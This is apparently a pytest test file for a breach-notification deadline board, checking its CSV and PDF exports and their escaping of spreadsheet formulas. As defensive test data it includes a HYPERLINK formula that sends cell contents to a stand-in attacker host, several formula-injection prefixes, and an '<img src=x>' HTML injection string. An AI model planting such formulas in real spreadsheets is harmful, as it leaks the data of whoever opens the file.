"""The board as CSV and as PDF: whole, filtered, safe to open."""

import csv
import io
from datetime import UTC, datetime

import pytest
from board_kit import board_of, breach
from pages_kit import Site, incident
from pypdf import PdfReader

from bot.documents.pdf_text import text_of_pages
from bot.documents.spreadsheet import safe_cell, write_csv
from bot.services.clock_rulings import overrule_clock
from bot.services.log_head import head_of
from bot.store.unit_of_work import reading
from bot.web.pages.board_files import HEAD
from tests.kit import CHRIS, LENA, entries_of, opened

pytestmark = pytest.mark.slow


def lines_of(body: bytes) -> list[dict[str, str]]:
    """Read a CSV as a spreadsheet does."""
    assert body.startswith(b"\xef\xbb\xbf")
    text = body.decode("utf-8-sig")
    assert text.count("\r\n") == text.count("\n")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def pages_of(body: bytes) -> list[str]:
    return text_of_pages(body)


def test_the_csv_holds_every_duty(site: Site, ref: str) -> None:
    home = breach(site, ref)
    before = entries_of(site.store, ref)
    answer = site.as_(CHRIS).get(f"{home}/board.csv")
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    name = f'attachment; filename="{ref}-board.csv"'
    assert answer.headers["Content-Disposition"] == name
    lines = lines_of(answer.content)
    assert tuple(lines[0]) == HEAD
    by_key = {line["Clock"]: line for line in lines}
    assert len(by_key) == len(lines)
    board = board_of(site, ref)
    assert [line["Clock"] for line in lines[: len(board.rows)]] == [
        row.duty.key for row in board.rows
    ]
    florida = by_key["US-FL-IND"]
    assert florida["Due (local)"] == "2026-12-21 23:59:59"
    assert florida["Zone"] == "America/New_York"
    assert florida["Due (UTC)"] == "2026-12-22 04:59:59"
    assert florida["If extended (UTC)"] == "2027-01-06 04:59:59"
    assert florida["Jurisdiction"] == "Florida"
    assert by_key["US-AL-AG"]["State"] == "can't tell yet"
    assert by_key["US-SEC-8K-105"]["State"] == "doesn't apply"
    assert entries_of(site.store, ref) == before


def test_the_filters_hold_for_the_files_too(site: Site, ref: str) -> None:
    home = breach(site, ref)
    answer = site.as_(LENA).get(f"{home}/board.csv?place=US-FL")
    assert f"{ref}-board-filtered.csv" in answer.headers["Content-Disposition"]
    assert {line["Jurisdiction"] for line in lines_of(answer.content)} == {"Florida"}
    paper = pages_of(site.as_(LENA).get(f"{home}/board.pdf?place=US-FL").content)
    assert "Filtered: only Florida." in paper[0]
    assert "EU-GDPR-33-SA" not in " ".join(paper)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_cell_never_becomes_a_formula(text: str) -> None:
    assert safe_cell(text) == f"'{text}"
    body = write_csv([text], [[text]]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(body, newline=""))) == [[f"'{text}"], [f"'{text}"]]


def test_quotes_commas_and_line_breaks_come_back_as_they_were() -> None:
    cell = 'He said: "no, never",\nthen left; 1 = 1'
    body = write_csv(["Why"], [[cell]])
    assert list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""))) == [["Why"], [cell]]


def test_what_counsel_writes_is_no_formula_in_the_csv(site: Site, ref: str) -> None:
    home = breach(site, ref)
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    site.act(
        ref,
        LENA,
        lambda tx, one, who: overrule_clock(
            tx, one, "US-NY-AG", reason=evil, applies=False, actor=who
        ),
    )
    lines = lines_of(site.as_(LENA).get(f"{home}/board.csv").content)
    cells = [cell for line in lines for cell in line.values()]
    assert any(evil in cell for cell in cells)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


def test_the_pdf_says_what_it_is_and_when_it_was_true(site: Site, ref: str) -> None:
    home = breach(site, ref)
    answer = site.as_(CHRIS).get(f"{home}/board.pdf")
    assert answer.headers["Content-Type"] == "application/pdf"
    assert answer.headers["Content-Disposition"] == f'attachment; filename="{ref}-board.pdf"'
    pages = pages_of(answer.content)
    with reading(site.store) as session:
        head = head_of(session, site.store, incident(site, ref))
    for number, page in enumerate(pages, 1):
        assert f"Page {number} of {len(pages)}" in page
        assert "assists counsel; it is not legal advice" in page
        assert "Made 21 November 2026, 03:00 PST (11:00 UTC) by Chris Nakamura" in page
        assert f"Evidence log at {head.size} entries, root {head.root}" in page
        assert f"Halden Mutual Insurance · {ref}" in page
    text = " ".join(pages)
    assert "21 running · 10 waiting · 157 can’t be told yet" in pages[0]
    # Words of the picture are words of the file.
    assert "next 7 days" in pages[0]
    assert "EU-GDPR-33-SA European Union Authority" in text
    assert "Mon 21 Dec 2026, 23:59 EST 2026-12-22 04:59:59 UTC" in text
    assert "How many residents of the United States (US) are affected?" in text
    assert "Sec registrant: no." in text


def test_two_papers_of_the_same_moment_are_the_same_bytes(site: Site, ref: str) -> None:
    home = breach(site, ref)
    lena = site.as_(LENA)
    first, second = (lena.get(f"{home}/board.pdf?place=US").content for _ in range(2))
    assert first == second
    info = PdfReader(io.BytesIO(first)).metadata
    assert info is not None
    assert info.creation_date == datetime(2026, 11, 21, 11, 0, tzinfo=UTC)


def test_a_title_that_no_font_can_print_doesnt_stop_the_paper(site: Site) -> None:
    found: list[str] = []
    title = "漏洩 🔥 <img src=x>"
    site.tx(lambda tx: found.append(opened(tx, title=title).ref))
    answer = site.as_(LENA).get(f"/incidents/{found[0]}/board.pdf")
    assert answer.status_code == 200
    page = pages_of(answer.content)[0]
    assert "?? ? <img src=x>" in page
    assert "No clock to show." not in page  # what applies without any fact has its clock
